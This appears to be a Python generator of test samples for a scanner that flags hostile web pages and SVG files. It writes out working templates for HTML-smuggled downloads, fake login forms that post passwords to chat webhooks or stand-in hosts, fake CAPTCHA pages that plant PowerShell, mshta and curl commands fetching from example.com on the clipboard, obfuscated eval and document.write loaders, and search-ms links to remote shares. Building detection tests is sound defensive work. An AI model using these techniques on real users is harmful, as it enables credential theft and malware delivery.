"""Web pages and pictures that smuggle, phish or mislead."""

import gzip
import io
import zipfile

from formats import windows_program
from plain import b64, plain, script

PAGE = "<!DOCTYPE html>\n<html><head><title>{0}</title></head><body>{1}</body></html>\n"


def archive():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("invoice.js", "x" * 90 + "\n".join(str(n * 7919) for n in range(60)))
    return out.getvalue()


BLOB = """<script>
var f = '{0}';
var s = at·ob(f), a = new Uint8·Array(s.length);
for (var i = 0; i < s.length; i++) a[i] = s.charCode·At(i);
var u = URL.create·ObjectURL(new Bl·ob([a], {{type: 'octet/stream'}}));
var l = document.createElement('a'); l.href = u; l.down·load = 'invoice.zip'; document.body.appendChild(l); l.cli·ck();
</script>"""
OLD = """<script>
function g(b) {{ var s = window.at·ob(b); var n = s.length, a = new Uint8·Array(n); while (n--) a[n] = s.charCode·At(n); return a; }}
navigator.msSave·OrOpenBlob(new Bl·ob([g("{0}")]), "x.iso");
</script>"""
LINK = """<a id="d" download="invoice.zip" href="data:application/zip;base64,x">x</a><script>
d.href = "data:application/octet-stream;base64,{0}"; d.setAttribute("down·load", at·ob("eA==")); d.dispatch·Event(new MouseEvent("click"));
</script>"""
for carried in (archive(), windows_program(b"code"), b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(90), gzip.compress(bytes(range(256)))):
    for body in (BLOB, OLD, LINK):
        script("HTML_Smuggles_File", PAGE.format("Document", plain(body).format(b64(carried))))

HIDDEN = b64(bytes(byte ^ 0x5A for byte in archive() * 4))
CODES = ",".join(str(byte) for byte in archive())
for data in (f"'{HIDDEN}'", f"[{CODES}]", "'" + archive().hex() + "'"):
    script(
        "HTML_Builds_Download",
        PAGE.format("Please wait", plain(BLOB).replace("'{0}'", "''").format("").replace("var f = ''", f"var f = {data}; parseInt(1)")),
        PAGE.format("Loading", "<h1>Loading</h1>" + plain(BLOB).replace("'{0}'", "''").format("").replace("var f = ''", f"const payload =\n {data}")),
    )

FORM = '<form id="f"><input type="email" name="u"><input type="{0}" name="p"></form>'
for kind, call in (
    ("password", 'fetch("https://api.tele·gram.org/bot123456789:AAExample/sendMessage?chat_id=1&text=" + p.value)'),
    ("PASSWORD", "$.post('https://api.tele·gram.org/bot1:x/sendMessage', {text: p.value})"),
    ("password", "xhr.open('POST', 'https://disc·ord.com/api/web·hooks/123456789012345678/abc')"),
):
    script("HTML_Sends_Password_To_Chat", PAGE.format("Sign in", FORM.format(kind) + f"<script>{call}</script>"))

for title, send in (
    ("Sign in to Outlook", '<form method=post action="https://example.com/wp/next.php">'),
    ("Microsoft - SharePoint Online", "<script>$.ajax({url: 'https://example.com/a/post.php', data: f})</script><form>"),
    ("DHL | Track", "<script>fetch('https://example.net/login/submit', {method: 'POST'})</script><form>"),
    ("Adobe Document Cloud", "<script>x.open('POST', 'https://example.org/x/send.php')</script><form>"),
):
    script("HTML_Password_Form_In_Disguise", PAGE.format(title, send + '<input name=e value="jane@example.com"><input type="password"></form>'))

CONTENT = "<html><body><h1>Your document is protected</h1><form><input type=password></form></body></html>" * 6
percent = "".join(f"%{ord(c):02x}" for c in CONTENT)
numbers = ",".join(str(ord(c)) for c in CONTENT)
for hidden in (
    f"document.wri·te(un·escape('{percent}'));",
    f"document.wri·te(at·ob('{b64(CONTENT)}'));",
    f"document.body.inner·HTML = decodeURIComponent(escape(window.at·ob(\"{b64(CONTENT)}\")));",
    f"ev·al(String.from·CharCode({numbers}));",
):
    script("HTML_Hides_Page", PAGE.format("Secure", f"<script>{plain(hidden)}</script>"))
script("HTML_Hides_Page", f'<html><body><iframe src="data:text/html;base64,{b64(CONTENT)}"></iframe></body></html>')

STEPS = "<p>Verify that you are human</p><ol><li>Press {0}</li><li>Press {1}</li><li>Press Enter</li></ol>"
for keys, command in (
    (("<b>Windows</b> + <b>R</b>", "<b>Ctrl</b> + <b>V</b>"), "power·shell -w hidden -c iwr http://example.com/x"),
    (("Win + R", "CTRL + V"), "msh·ta https://example.com/captcha.html # I am not a robot"),
    (("Windows key + R", "Control + V"), "cmd /c start /min cu·rl http://example.com/a"),
):
    script("HTML_Has_Person_Run_Command", PAGE.format("Captcha", STEPS.format(*keys) + f"<script>navigator.clip·board.writeText('{command}')</script>"))
script(
    "HTML_Has_Person_Run_Command",
    PAGE.format("Error", STEPS.format("Windows Button + R", "CTRL and V") + "<script>t.value = 'power·shell x'; t.select(); document.exec·Command('copy')</script>"),
)

SVG = '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"{0}>{1}</svg>\n'
for attributes, content in (
    ("", "<script type=\"application/ecmascript\"><![CDATA[window.loca·tion.href = 'https://example.com/?' + x;]]></script>"),
    ("", f"<script>document.wri·te(at·ob('{b64(CONTENT)}'))</script>"),
    ("", "<svg:script>const k = [1, 2]; ev·al(String.from·CharCode(...k))</svg:script>"),
    (' onload="loca·tion=\'https://example.com\'"', "<rect width='9' height='9'/>"),
):
    script("SVG_With_Hidden_Script", SVG.format(attributes, content))

for address in (
    "search-ms:query=invoice&crumb=location:\\\\example.com@80\\DavWWWRoot&displayname=Downloads",
    "search:query=a&crumb=location:\\\\192.0.2.1\\share",
    "search-ms:displayname=Documents&query=*.lnk&crumb=location:%5c%5cexample.com%5cx",
):
    script(
        "Search_Window_On_Foreign_Share",
        PAGE.format("x", f'<a href="{address}">Open</a>'),
        f'<html><head><meta http-equiv="refresh" content="0; url={address}"></head></html>',
        case=True,
    )
